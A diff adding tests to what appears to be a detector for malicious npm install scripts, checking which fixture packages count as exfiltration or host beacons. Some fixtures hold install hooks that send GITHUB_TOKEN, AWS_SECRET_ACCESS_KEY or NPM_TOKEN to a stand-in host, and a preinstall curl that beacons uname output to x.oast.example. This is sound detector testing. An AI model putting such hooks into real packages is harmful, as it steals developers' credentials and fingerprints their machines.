@@ -324,12 +324,54 @@ https.get(url, { headers }, (res) => res.pipe(fs.createWriteStream(path.join(__d
     expect(r.level).toBe('low');
   });
 
+  it("one service's token under its two names (NX_CLOUD_AUTH_TOKEN or NX_CLOUD_ACCESS_TOKEN) is one token, not a stealer's list", () => {
+    const code = `const https = require('https');\nconst token = process.env.NX_CLOUD_AUTH_TOKEN || process.env.NX_CLOUD_ACCESS_TOKEN;\nhttps.get('https://cloud.example/api', { headers: { authorization: token } });\n`;
+    const r = run(fixture('cloud-cli', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code }));
+    expect(r.ids).not.toContain('exfiltration');
+    expect(r.level).toBe('low');
+  });
+
   it('two different tokens, or the npm token alone, sent out is exfiltration again', () => {
     const code = (names: string[]) => `const https = require('https');\nhttps.get('https://x.example/?' + ${names.map((n) => `process.env.${n}`).join(" + '&' + ")});\n`;
     const two = run(fixture('two-tokens', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']) }));
     const npm = run(fixture('npm-token', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['NPM_TOKEN']) }));
     expect(two.ids).toContain('exfiltration');
     expect(npm.ids).toContain('exfiltration');
+  });
+
+  it('a chromedriver-like installer asking uname for the architecture before its download stays low', () => {
+    const r = run(fixture('driver-bin', { scripts: { install: 'node install.js' } }, {
+      'install.js': `const child_process = require('child_process');
+const https = require('https');
+const fs = require('fs');
+function isRosetta() {
+  const arch = child_process.spawnSync('uname', ['-m']).stdout.toString().trim();
+  return arch === 'x86_64' && child_process.spawnSync('sysctl', ['-in', 'sysctl.proc_translated']).stdout.toString().trim() === '1';
+}
+const platform = process.arch === 'arm64' || isRosetta() ? 'mac-arm64' : 'linux64';
+https.get('https://storage.example.com/driver/' + platform + '/driver.zip', (res) => res.pipe(fs.createWriteStream('driver.zip')));
+`,
+    }));
+    expect(r.ids).not.toContain('hostBeacon');
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('the user name read for a per-user folder in one file, the network used in another: not shown to be a beacon (nx)', () => {
+    const r = run(fixture('big-tool', { scripts: { postinstall: 'node post.js' } }, {
+      'post.js': "require('./dirs.js');\nrequire('./http.js');\n",
+      'dirs.js': "const os = require('os');\nconst path = require('path');\nmodule.exports = path.join(os.tmpdir(), 'tool-' + os.userInfo().username);\n",
+      'http.js': "const https = require('https');\nhttps.get('https://cdn.example.com/tool/latest.json', () => {});\n",
+    }));
+    const beacon = r.findings.find((f) => f.messageId === 'hostBeacon');
+    expect(beacon?.weight).toBe(15);
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('uname -a or -n (the machine name) sent out at install is still a beacon', () => {
+    for (const flags of ['-a', '-n', '-sn']) {
+      const r = run(fixture('probe', { scripts: { preinstall: `curl -s "https://x.oast.example/?h=$(uname ${flags})"` } }));
+      expect(r.ids, flags).toContain('hostBeacon');
+    }
   });
 
   it.each(legitimate)('%s', (_label, f) => {
